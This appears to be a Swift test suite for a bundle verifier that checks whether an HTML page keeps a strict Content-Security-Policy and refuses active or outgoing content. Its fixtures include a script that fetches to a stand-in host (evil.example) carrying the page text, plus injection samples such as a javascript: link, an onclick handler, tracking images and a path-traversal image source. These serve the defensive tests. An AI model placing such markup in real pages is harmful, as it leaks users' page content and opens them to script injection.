import Foundation
import PortaTestSupport
import PortaVerify
import Testing

/// The page is parsed for real: a script cannot pass by hiding the policy in a comment, by
/// widening it, or by sitting beside it.
@Suite struct PageSafetyTests {
    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src 'self'\">"
    let script = "<script>fetch('https://evil.example/?' + document.body.innerText)</script>"

    /// The sample bundle with its page edited by `edit`, resealed so that only level 2 can tell.
    func codes(afterEditingThePage edit: (String) -> String) async throws -> [String] {
        let bundle = try await SampleBundle.make()
        let page = bundle.file("data/index.html")
        try edit(try String(contentsOfFile: page, encoding: .utf8)).write(toFile: page, atomically: false, encoding: .utf8)
        try BagFiles.reseal(bundle.path)
        let report = try BundleVerifier(maxLevel: 2).verify(bundle.path)
        #expect(report.levels.first?.passed == true, "\(report.text)")
        return report.findings.map(\.code)
    }

    @Test func theSamplePagePasses() async throws {
        #expect(try await codes { $0 }.isEmpty)
    }

    @Test func aPolicyInsideACommentDoesNotCount() async throws {
        let found = try await codes { $0.replacingOccurrences(of: policy, with: "<!-- \(policy) -->").replacingOccurrences(of: "</body>", with: script + "</body>") }
        #expect(found.contains("page-not-sealed") && found.contains("page-active-content"), "\(found)")
    }

    @Test func aWidenedPolicyIsRefused() async throws {
        let found = try await codes { $0.replacingOccurrences(of: "style-src 'unsafe-inline'", with: "style-src 'unsafe-inline'; script-src 'unsafe-inline'")
            .replacingOccurrences(of: "</body>", with: script + "</body>") }
        #expect(found.contains("page-not-sealed") && found.contains("page-active-content"), "\(found)")
    }

    @Test func aScriptBesideAnIntactPolicyIsRefused() async throws {
        #expect(try await codes { $0.replacingOccurrences(of: "</body>", with: script + "</body>") } == ["page-active-content"])
    }

    @Test(arguments: ["<p onclick=\"x()\">a</p>", "<a href=\"javascript:alert(1)\">a</a>", "<a href=\"https://evil.example/\">a</a>",
                      "<img src=\"https://evil.example/t.gif\">", "<img src=\"files/../../../etc/x.png\">", "<img src=\"//evil.example/t.gif\">",
                      "<SCRIPT>x()</SCRIPT>"])
    func activeOrOutgoingContentIsRefused(_ markup: String) async throws {
        #expect(Set(try await codes { $0.replacingOccurrences(of: "</body>", with: markup + "</body>") }) == ["page-active-content"])
    }
}
